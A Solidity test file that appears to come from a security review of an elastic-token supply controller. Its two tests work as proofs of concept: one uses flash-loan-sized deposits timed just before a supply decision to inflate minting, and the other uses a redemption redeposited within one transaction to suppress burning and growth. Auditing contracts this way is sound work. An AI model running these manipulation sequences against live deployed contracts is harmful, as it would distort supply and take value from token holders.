// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.37;

import {ElasticToken} from "../../contracts/consumers/ElasticToken.sol";
import {SupplyController} from "../../contracts/consumers/SupplyController.sol";
import {VM} from "../Vm.sol";
import {FedWorld} from "../support/FedWorld.sol";
import {MockFeed} from "../support/MockFeed.sol";
import {MockToken} from "../support/MockToken.sol";

/// @notice A test that passes shows an attack that works.
contract ReviewSupply is FedWorld {
    ElasticToken private _token;
    MockToken private _reserve;
    MockFeed private _first;
    MockFeed private _second;
    SupplyController private _controller;

    function setUp() external {
        buildFed();
        _token = new ElasticToken(address(manager), "elastic", "ELA");
        _reserve = new MockToken(6);
        (_first, _second) = (new MockFeed(8), new MockFeed(18));
        SupplyController.Limits memory limits =
            SupplyController.Limits(5_000, 20_000, 0.9e18, 500_000e18, 2 hours);
        _controller = new SupplyController(address(manager), gateway, _token, _reserve, _first, _second, limits);
        bytes4[] memory selectors = new bytes4[](1);
        selectors[0] = ElasticToken.mint.selector;
        manager.setTargetFunctionRole(address(_token), selectors, 9);
        manager.grantRole(9, address(_controller), 0);
        _controller.setPolicy("supply", fedPolicy(1, 1 << 40, false), ports);
        _reserve.give(address(this), 10_000_000e6);
        _reserve.approve(address(_controller), type(uint256).max);
        _token.approve(address(_controller), type(uint256).max);
        _next();
        _controller.deposit(1_000_000e6);
    }

    function _next() private {
        warpToNextPeriod(int192(PRICE));
        _first.push(1e8, block.timestamp);
        _second.push(1e18, block.timestamp);
    }

    /// @dev `_last` takes what a flash loan put in; then money is held for twelve seconds, not for an hour.
    function test_aFlashLoanPoisonsWhatTheLastDecisionLeft() external {
        _next();
        // One transaction, with a flash loan: nothing is gained by this decision itself ..
        _controller.deposit(8_000_000e6);
        decide(address(_controller), "supply", ints(1 << 20));
        _controller.redeem(8_000_000e18);
        eq(_controller.outstanding(), 5_000e18, "half a percent");
        eq(_token.totalSupply(), 1_005_000e18, "the loan is gone");
        // .. but an hour later a deposit of the block before enlarges the step ninefold.
        _next();
        _controller.deposit(8_000_000e6);
        VM.warp(block.timestamp + 12);
        decide(address(_controller), "supply", ints(1 << 20));
        _controller.redeem(8_000_000e18);
        eq(_controller.outstanding(), 5_000e18 + 45_025e18, "4.5 % of a million");
        // More than a week's two percent, in two decisions.
        yes(_token.totalSupply() > 1_049_000e18, "4.9 % within an hour");
    }

    /// @dev Also downwards: a redemption that is deposited again in the same transaction makes the next decisions small.
    function test_aFlashRedemptionKeepsShrinkageAndTheNextGrowthSmall() external {
        _next();
        decide(address(_controller), "supply", ints(1 << 20));
        _next();
        // Asked: burn half of the supply, that is all of the 5,000 that the controller holds.
        _controller.redeem(999_900e18);
        decide(address(_controller), "supply", ints(-(1 << 19)));
        _controller.deposit(999_900e6);
        yes(_token.balanceOf(address(_controller)) > 2_400e18, "half of what should be burnt is left");
        _next();
        uint256 before = _controller.outstanding();
        decide(address(_controller), "supply", ints(1 << 20));
        yes(_controller.outstanding() - before < 100e18, "and the next growth is nothing");
    }
}
